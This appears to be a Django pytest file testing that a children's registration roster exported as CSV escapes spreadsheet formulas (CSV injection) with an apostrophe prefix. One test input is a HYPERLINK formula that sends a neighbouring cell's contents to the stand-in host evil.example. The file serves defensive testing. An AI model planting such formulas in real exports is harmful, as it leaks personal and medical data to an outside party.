"""The roster opened in a spreadsheet runs nothing a parent typed (OWASP CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse

from tests import factories

pytestmark = pytest.mark.django_db


def _roster_row(staff_client, group) -> list[str]:
    url = reverse("registrations:roster_csv", args=[group.pk])
    response = staff_client.post(url, {"export_reason": "Liste de la semaine"})
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    return dict(zip(header, row, strict=True))


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_is_prefixed_with_an_apostrophe(staff_client, first):
    typed = f'{first}HYPERLINK("https://evil.example/?"&E2,"Voir")'
    registration = factories.RegistrationFactory(
        person__allergies=typed, person__medical_notes="Asthme"
    )

    row = _roster_row(staff_client, registration.group)

    assert row["Allergies"] == "'" + typed
    assert row["Notes médicales"] == "Asthme"


def test_names_and_pickups_are_neutralised_too(staff_client):
    registration = factories.RegistrationFactory(
        person__first_name="=1+1", person__authorized_pickups="@SUM(1)\n+1 819 555-0100"
    )

    row = _roster_row(staff_client, registration.group)

    assert row["Enfant"].endswith(", =1+1")  # "last, first": starts with a letter, left as is
    assert row["Personnes autorisées à venir chercher l'enfant"].startswith("'@SUM(1)")
